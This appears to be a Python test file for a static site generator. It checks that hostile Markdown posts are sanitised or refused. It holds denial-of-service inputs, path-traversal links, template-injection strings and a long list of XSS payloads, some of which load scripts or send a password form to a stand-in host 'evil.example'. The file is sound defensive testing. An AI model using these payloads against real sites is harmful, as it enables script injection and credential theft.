"""Texts that are built to break the Markdown library, the page around them, or whoever reads it."""

from __future__ import annotations

import pytest

from tests.bad_inputs.support import SETTINGS, Site, post

ENGINES = ("python-markdown", "commonmark")


def with_engine(engine: str, mode: str = "safe") -> str:
    """The settings of a site whose text another engine reads."""
    return f'{SETTINGS}[markdown]\nengine = "{engine}"\nhtml = "{mode}"\n'


ENDLESS = {
    "brackets": "[" * 50_000,
    "nested-lists": "\n".join(f"{' ' * 2 * depth}- item" for depth in range(2000)),
    "backticks": " ".join("`" * ticks for ticks in range(1, 1501)),
    "quotations": "> " * 5000 + "x",
    "emphasis": "*a **a " * 5000,
    "elements": "<div>" * 5000,
    "less-than": "<" * 100_000,
    "images": "![" * 20_000,
    "links": "[x](" * 20_000,
    "ampersands": "&" * 100_000,
    "lists-on-a-line": "- " * 3000,
    "backslashes": "\\" * 100_001,
    "footnotes": "[^1]: x\n" * 20_000,
    "tables": "|" * 20_000 + "\n" + "|-" * 20_000,
}


def test_a_text_that_would_take_for_ever_is_stopped_and_named_and_the_others_are_built(site: Site) -> None:
    site.write("sitegen.toml", SETTINGS + "[limits]\nconvert_seconds = 0.7\n")
    for name, body in ENDLESS.items():
        site.post(post(body, front=f"slug: {name}"), f"{name}.md")
    outcome = site.build_apart("--now", "2026-02-03", "--keep-going", seconds=60)
    assert outcome.code == 1, outcome
    for name in ENDLESS:
        was_built = (site.output / f"blog/{name}/index.html").is_file()
        told = f"content/posts/{name}.md error The text "
        assert was_built == (told not in outcome.messages), (name, outcome.messages)
    assert "takes longer than 0.7 s to convert" in outcome.messages
    assert (site.output / "blog/good/index.html").is_file()


def test_the_native_engine_copes_with_such_texts_or_refuses_them(site: Site) -> None:
    site.write("sitegen.toml", with_engine("commonmark") + "[limits]\nconvert_seconds = 5\n")
    for name, body in ENDLESS.items():
        site.post(post(body, front=f"slug: {name}"), f"{name}.md")
    outcome = site.build_apart("--now", "2026-02-03", "--keep-going", seconds=60)
    refused = {name for name in ENDLESS if not (site.output / f"blog/{name}/index.html").is_file()}
    assert refused == {"nested-lists", "quotations", "elements"}
    for name in refused:
        assert f"content/posts/{name}.md error The text makes HTML that is nested" in outcome.messages
    assert "takes longer" not in outcome.messages


UNCLOSED = (
    "before\n\n<div><table><tr><td>cell\n\nafter",
    "before\n\n</main></body></html></div></article>\n\nafter",
    "before\n\n<p><b><i>\n\nafter",
    "before\n\n<select><option><textarea><title>\n\nafter",
    "before\n\n<!DOCTYPE html><html><head><body class=x>\n\nafter",
    "before\n\n<plaintext>\n\nafter",
    "before\n\n<svg><desc><p>\n\nafter",
)


@pytest.mark.parametrize("engine", ENGINES)
@pytest.mark.parametrize("mode", ["safe", "all", "none"])
def test_html_that_is_not_closed_or_closes_too_much_leaves_the_page_whole(
    site: Site, mode: str, engine: str
) -> None:
    site.write("sitegen.toml", with_engine(engine, mode))
    for number, body in enumerate(UNCLOSED):
        site.post(post(body, front="summary: short"), f"bad{number}.md")
    assert site.build().code == 0
    good = site.page("blog/good")
    for number in range(len(UNCLOSED)):
        page = site.page(f"blog/bad{number}")
        for place in ("body > footer", "body > main#site-main", "main article", "html > head > title"):
            assert len(page.css(place)) == len(good.css(place)), (number, place)
        assert "before" in site.body(f"blog/bad{number}")
    for number in range(3):
        assert "after" in site.body(f"blog/bad{number}")


def test_a_comment_that_is_not_closed_is_an_error_with_its_line(site: Site) -> None:
    site.post(post("before\n\n<!-- a note\n\nthe rest"))
    site.refuses("posts/bad.md:8", "comment", "-->")


LIVE = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x.png onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "![x](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=alert(1)&gt;'>-->",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<a href=x ping=//evil.example>x</a>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    '[x](https://a.example/ "\'><script>alert(1)</script>")',
    "![<script>alert(1)</script>](x.png)",
    '## <script>alert(1)</script> {#x"onclick=alert(1)}',
    "## x { onclick=alert(1) }",
    "[x](https://a.example){: onclick=alert(1) }",
    '```"><script>alert(1)</script>\nx\n```',
    "``` { .x onclick=alert(1) }\nx\n```",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x',
    '*[HTML]: "><script>alert(1)</script>\n\nHTML',
    "<script>alert(1)//<!--more-->\n\n</script>",
    "\0020\u0002klzzwxh:0000\u0003 \u0002wzxhzdk:0\u0003",
)
"""Ways to have something run or fetched."""


@pytest.mark.parametrize("engine", ENGINES)
@pytest.mark.parametrize("mode", ["safe", "none"])
def test_nothing_in_a_text_runs_or_fetches_anything(site: Site, mode: str, engine: str) -> None:
    site.write("sitegen.toml", with_engine(engine, mode) + '[links]\nbroken = "warn"\n')
    for number, body in enumerate(LIVE):
        site.post(post(f"{body}\n\nThe end.", title=f"title: Live {number}"), f"live-{number}.md")
    messages = site.accepts("warning")
    assert len(list((site.output / "blog").glob("live-*"))) == len(LIVE)
    assert "The address `javascript:alert(1)` was left out" in messages
    if mode == "safe":
        assert "`<script>` was left out of the text" in messages
        assert "The attribute `onerror` was left out of the text" in messages


def test_what_was_left_out_is_told_once_for_the_site_with_a_file_and_a_line(site: Site) -> None:
    for name in ("a.md", "b.md"):
        site.post(post("one\n\n<script>alert(1)</script>\n\n<script>alert(2)</script>"), name)
    messages = site.accepts(
        "the site warning `<script>` was left out of the text (in 2 files, first in content/posts/a.md:8)",
        '`[markdown] html = "all"`',
    )
    assert messages.count("`<script>` was left out") == 1


@pytest.mark.parametrize("engine", ENGINES)
def test_with_all_html_scripts_stay_but_addresses_with_other_schemes_do_not(site: Site, engine: str) -> None:
    site.write("sitegen.toml", with_engine(engine, "all"))
    site.post(post("<script>go()</script>\n\n<a href='javascript:alert(1)'>x</a> [y](data:text/html,x)"))
    outcome = site.build()
    assert "The address `javascript:alert(1)` was left out" in outcome.messages
    text = str(site.page("blog/bad").html)
    assert "go()" in text
    assert "javascript:" not in text
    assert "data:text" not in text


@pytest.mark.parametrize("engine", ENGINES)
def test_without_html_tags_are_shown_as_they_were_typed(site: Site, engine: str) -> None:
    site.write("sitegen.toml", with_engine(engine, "none"))
    site.post(post("a <b>bold</b> <script>alert(1)</script> word"))
    site.accepts()
    assert "a <b>bold</b> <script>alert(1)</script> word" in site.body("blog/bad")


@pytest.mark.parametrize("engine", ENGINES)
def test_footnotes_contents_and_highlighted_code_survive_the_allow_list(site: Site, engine: str) -> None:
    site.write("sitegen.toml", with_engine(engine))
    site.post(post("A note.[^1]\n\n```python\nx = 1\n```\n\n[^1]: The note."))
    site.accepts()
    page = site.page("blog/bad")
    assert page.css_first("sup a[href^='#fn']") is not None
    assert page.css_first("[id^='fn']") is not None
    assert page.css_first("pre code span[class]") is not None


@pytest.mark.parametrize("engine", ENGINES)
def test_a_post_is_data_and_no_template(site: Site, engine: str) -> None:
    site.write("sitegen.toml", with_engine(engine))
    body = "{{ 7919*7907 }} {% include 'nowhere' %} {# note #} {{ site.title }}"
    site.post(post(f"{body}\n\n`{body}`", title=f'title: "{body}"'))
    assert site.build().code == 0
    assert site.body("blog/bad").count("7919*7907") >= 3
    assert site.anywhere("62615533") == []
    heading = site.page("blog/bad").css_first("h1")
    assert heading is not None
    assert heading.text() == body


@pytest.mark.parametrize("engine", ENGINES)
def test_broken_links_anchors_and_images_are_errors_with_their_lines(site: Site, engine: str) -> None:
    site.write("sitegen.toml", with_engine(engine))
    site.post(post("[a](nowhere.md)\n\n[b](good.md#no-such-part)\n\n![c](missing.png)\n\n[d](#none)"))
    site.refuses(
        "posts/bad.md:6 error There is nothing behind the link `nowhere.md`",
        "posts/bad.md:8 error There is no heading or anchor `#no-such-part` on /blog/good/",
        "posts/bad.md:10 error There is nothing behind the picture `missing.png`",
        "posts/bad.md:12 error There is no heading or anchor `#none`",
    )


def test_broken_links_can_be_made_warnings(site: Site) -> None:
    site.write("sitegen.toml", f'{SETTINGS}[links]\nbroken = "warn"\n')
    site.post(post("[a](nowhere.md)\n\n![c](missing.png)"))
    site.accepts("posts/bad.md:6 warning There is nothing behind the link", "posts/bad.md:8 warning")


def test_a_link_that_climbs_out_of_the_site_reads_no_file_and_is_an_error(site: Site) -> None:
    (site.root.parent / "secret.png").write_bytes(b"top secret")
    site.post(
        post("![x](../../../secret.png)\n\n![y](/../../secret.png)\n\n![z](%2e%2e/%2e%2e/%2e%2e/secret.png)")
    )
    site.refuses("posts/bad.md:6", "posts/bad.md:8", "posts/bad.md:10")


@pytest.mark.parametrize("engine", ENGINES)
def test_headings_have_ids_of_their_own_and_none_of_the_page_s(site: Site, engine: str) -> None:
    site.write("sitegen.toml", with_engine(engine))
    headings = (
        "Main",
        "Main",
        "main",
        "Search",
        "Site main",
        "Cards",
        "Gate",
        "Menu",
        "Nav",
        "site-main",
        "fn:1",
    )
    site.post(post("".join(f"## {name}\n\ntext[^1]\n\n" for name in headings) + "[^1]: Note."))
    site.accepts()
    ids = [node.attributes["id"] for node in site.page("blog/bad").css("[id]")]
    assert len(ids) == len(set(ids))
    own = {node.attributes["id"] for node in site.page("blog/good").css("[id]")} - {"a-part"}
    inner = site.page("blog/bad").css("article h2[id]")
    assert len(inner) >= len(headings)
    assert not own & {node.attributes["id"] for node in inner}


@pytest.mark.parametrize("engine", ENGINES)
def test_ids_in_raw_html_cannot_be_the_page_s_own(site: Site, engine: str) -> None:
    site.write("sitegen.toml", with_engine(engine))
    site.post(post('<p id="site-main">one</p>\n\n<p id="body">two</p>\n\n<a name="site-main" href="#">x</a>'))
    site.build()
    ids = [node.attributes["id"] for node in site.page("blog/bad").css("[id]")]
    assert len(ids) == len(set(ids))
    own = site.page("blog/bad").css_first("#site-main")
    assert own is not None
    assert own.tag == "main"
